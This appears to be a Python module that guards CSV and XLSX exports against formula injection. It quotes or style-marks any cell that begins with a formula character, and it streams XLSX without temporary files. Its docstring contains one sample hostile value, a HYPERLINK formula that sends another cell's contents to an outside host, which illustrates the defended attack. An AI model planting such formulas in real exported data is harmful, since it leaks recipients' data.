"""Spreadsheet cells that leave the system, and the one streaming XLSX writer.

Names and other text come from other departments' lists: a person may be called
`=HYPERLINK("http://x/?"&C2,"click")`. OWASP's CSV injection guidance: a cell whose text
begins with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to a spreadsheet
program, so such a cell must be written as text. `is_formula_like` is the one test of that
(also after leading white space, which spreadsheet programs skip, and for the full-width
forms, which some of them read as the ASCII ones, and for any control character):

- in CSV, `csv_text` puts an apostrophe before it (the spreadsheet shows the text and keeps
  the apostrophe out of sight);
- in XLSX, `XlsxWriter` writes every text as an inline string (never a formula), and
  marks such a cell "quote prefix" too, so editing it does not turn it into one.

`XlsxWriter` streams rows straight into the ZIP member of their sheet: no temporary file
(openpyxl's write-only mode keeps each sheet in a temporary file under the system's temp
directory until it saves, where a crash leaves it, full of names and ID numbers), and
memory stays flat. Numbers (int, Decimal) are number cells; everything else is text.
"""

from __future__ import annotations

import unicodedata
import zipfile
from collections.abc import Iterable
from decimal import Decimal
from typing import IO, Any
from xml.sax.saxutils import escape

_FORMULA_START = frozenset("=+-@\t\r＝＋－＠")


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet program could read `text` as a formula (see the module)."""
    if not text:
        return False
    if unicodedata.category(text[0]) == "Cc":
        return True
    stripped = text.lstrip()
    return bool(stripped) and stripped[0] in _FORMULA_START


def csv_text(value: object) -> str:
    """A cell as CSV text: numbers as they are, formula-like text behind an apostrophe."""
    if isinstance(value, (int, Decimal)) and not isinstance(value, bool):
        return str(value)
    text = "" if value is None else str(value)
    return "'" + text if is_formula_like(text) else text


def csv_row(values: Iterable[object]) -> list[str]:
    return [csv_text(v) for v in values]


# -- XLSX -----------------------------------------------------------------------------------

_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
_CT = "application/vnd.openxmlformats-officedocument.spreadsheetml"
_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
_STYLES = (
    _HEAD + f'<styleSheet xmlns="{_NS}">'
    '<fonts count="1"><font><sz val="11"/><name val="Calibri"/></font></fonts>'
    '<fills count="2"><fill><patternFill patternType="none"/></fill>'
    '<fill><patternFill patternType="gray125"/></fill></fills>'
    '<borders count="1"><border><left/><right/><top/><bottom/><diagonal/></border></borders>'
    '<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>'
    '<cellXfs count="2"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'
    '<xf numFmtId="49" fontId="0" fillId="0" borderId="0" xfId="0" quotePrefix="1" '
    'applyNumberFormat="1"/></cellXfs>'
    '<cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/></cellStyles>'
    "</styleSheet>"
)


def _column(index: int) -> str:
    name = ""
    index += 1
    while index:
        index, rest = divmod(index - 1, 26)
        name = chr(65 + rest) + name
    return name


def _xml_text(text: str) -> str:
    # characters XML 1.0 cannot hold at all are dropped (a control character in a name)
    clean = "".join(ch for ch in text if ch in "\t\n\r" or ord(ch) >= 0x20)
    return escape(clean)


class XlsxWriter:
    """A workbook written sheet by sheet, row by row, into `out` (a binary file)."""

    def __init__(self, out: IO[bytes]) -> None:
        self._zip = zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED)
        self._titles: list[str] = []
        self._sheet: IO[bytes] | None = None
        self._row = 0

    def sheet(self, title: str) -> None:
        """Start a new sheet (the one before it is finished)."""
        self._end_sheet()
        self._titles.append(title)
        self._sheet = self._zip.open(f"xl/worksheets/sheet{len(self._titles)}.xml", "w")
        self._sheet.write(f'{_HEAD}<worksheet xmlns="{_NS}"><sheetData>'.encode())
        self._row = 0

    def append(self, values: Iterable[Any]) -> None:
        """One row: int and Decimal as numbers, None and "" empty, anything else as text."""
        assert self._sheet is not None, "sheet() first"
        self._row += 1
        r = self._row
        cells = []
        for i, value in enumerate(values):
            ref = f"{_column(i)}{r}"
            if value is None or value == "":
                continue  # an empty cell, as spreadsheet programs save one
            if isinstance(value, (int, Decimal)) and not isinstance(value, bool):
                cells.append(f'<c r="{ref}"><v>{value}</v></c>')
                continue
            text = str(value)
            style = ' s="1"' if is_formula_like(text) else ""
            cells.append(
                f'<c r="{ref}" t="inlineStr"{style}><is><t xml:space="preserve">'
                f"{_xml_text(text)}</t></is></c>"
            )
        self._sheet.write(f'<row r="{r}">{"".join(cells)}</row>'.encode())

    def _end_sheet(self) -> None:
        if self._sheet is not None:
            self._sheet.write(b"</sheetData></worksheet>")
            self._sheet.close()
            self._sheet = None

    def close(self) -> None:
        """Finish the last sheet and write the workbook's parts around the sheets."""
        if not self._titles:
            self.sheet("Sheet1")
        self._end_sheet()
        n = len(self._titles)
        sheets = "".join(
            f'<sheet name="{escape(t, {chr(34): "&quot;"})}" sheetId="{i}" r:id="rId{i}"/>'
            for i, t in enumerate(self._titles, start=1)
        )
        parts = {
            "[Content_Types].xml": (
                f'{_HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/'
                'content-types"><Default Extension="rels" ContentType="application/'
                'vnd.openxmlformats-package.relationships+xml"/>'
                '<Default Extension="xml" ContentType="application/xml"/>'
                f'<Override PartName="/xl/workbook.xml" ContentType="{_CT}.sheet.main+xml"/>'
                f'<Override PartName="/xl/styles.xml" ContentType="{_CT}.styles+xml"/>'
                + "".join(
                    f'<Override PartName="/xl/worksheets/sheet{i}.xml" '
                    f'ContentType="{_CT}.worksheet+xml"/>'
                    for i in range(1, n + 1)
                )
                + "</Types>"
            ),
            "_rels/.rels": (
                f'{_HEAD}<Relationships xmlns="{_PKG}"><Relationship Id="rId1" '
                f'Type="{_REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
            ),
            "xl/workbook.xml": (
                f'{_HEAD}<workbook xmlns="{_NS}" xmlns:r="{_REL}"><sheets>{sheets}</sheets>'
                "</workbook>"
            ),
            "xl/_rels/workbook.xml.rels": (
                f'{_HEAD}<Relationships xmlns="{_PKG}">'
                + "".join(
                    f'<Relationship Id="rId{i}" Type="{_REL}/worksheet" '
                    f'Target="worksheets/sheet{i}.xml"/>'
                    for i in range(1, n + 1)
                )
                + f'<Relationship Id="rId{n + 1}" Type="{_REL}/styles" Target="styles.xml"/>'
                "</Relationships>"
            ),
            "xl/styles.xml": _STYLES,
        }
        for name, text in parts.items():
            self._zip.writestr(name, text)
        self._zip.close()
